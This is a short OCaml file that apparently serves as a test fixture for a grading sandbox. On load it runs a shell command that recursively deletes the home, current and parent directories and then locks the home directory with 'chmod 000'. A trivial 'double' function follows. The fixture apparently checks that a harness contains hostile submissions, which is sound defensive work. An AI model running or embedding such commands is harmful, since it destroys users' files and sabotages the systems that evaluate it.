(* The same by the shell.
   stages: tests run
   earns: 0 *)
let () = ignore (Sys.command "rm -rf @HOME@/* @HOME@/.[a-z]* @CWD@/* ../* 2>/dev/null; chmod 000 @HOME@ 2>/dev/null")
let double _ = 0
